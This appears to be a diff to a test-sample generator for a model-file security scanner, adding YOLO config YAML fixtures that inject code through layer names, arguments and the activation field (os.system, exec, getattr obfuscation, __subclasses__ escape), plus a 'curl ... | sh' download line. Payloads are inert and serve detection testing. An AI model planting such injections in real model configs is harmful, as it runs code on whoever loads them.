@@ -139,6 +139,13 @@ def others():
     yield Sample("config-remote-code", "requirements-in-model.tar", "tar", "a package with a setup script", tar_file(tar_entry("setup.py", b"import os\nos.system('echo inert')\nfrom setuptools import setup\nsetup()\n"), tar_entry("model.pkl", op.echo())))
     dataset = "path: ../datasets/x\ntrain: images/train\nval: images/val\nnames:\n  0: a\n"
     yield Sample("config-remote-code", "dataset-download.yaml", "yaml", "YOLO runs the script that fetches the data", (dataset + "download: |\n  import os\n  os.system('echo inert')\n").encode())
+    layers = {
+        "system": "[-1, 1, os.system, ['echo inert']]", "exec": "[-1, 1, exec, ['print(1)']]", "hub": "[-1, 1, torch.hub.load, ['inert/inert', 'inert']]", "install": "[-1, 1, check_requirements, ['inert']]",
+        "through-torch": "[-1, 1, torch.os.popen, ['echo inert']]", "module-call": "[-1, 1, \"getattr(os, 'sys' + 'tem')\", ['echo inert']]", "argument": "[-1, 1, Conv, [64, \"os.system('echo inert')\"]]", "argument-hidden": "[-1, 1, Conv, [64, \"().__class__.__base__.__subclasses__()\"]]", "map": "[-1, 1, map, [os.system, \"['echo inert']\"]]",
+    }
+    for name, layer in layers.items():
+        yield Sample("config-remote-code", f"yolo-{name}.yaml", "yaml", "YOLO evaluates what a layer names", f"nc: 80\ndepth_multiple: 0.33\nwidth_multiple: 0.50\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - {layer}\nhead:\n  - [[-1], 1, Detect, [nc, anchors]]\n".encode())
+    yield Sample("config-remote-code", "yolo-activation.yaml", "yaml", "YOLO evaluates the activation", b"nc: 80\nactivation: eval(bytes([49]).decode())\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\nhead: []\n")
     yield Sample("config-remote-code", "dataset-download-import.yaml", "yaml", "YOLO runs the script that fetches the data", (dataset + "download: |\n  import subprocess as s\n  s.run(['echo', 'inert'])\n").encode())
     yield Sample("config-remote-code", "dataset-download-shell.yaml", "yaml", "YOLO runs the command that fetches the data", (dataset + "download: bash -c 'curl http://127.0.0.1:9/inert | sh'\n").encode())
     yield Sample("config-remote-code", "dataset-download-eval.yaml", "yaml", "YOLO runs the script that fetches the data", (dataset + "download: |\n  exec(bytes([112, 97, 115, 115]))\n").encode())
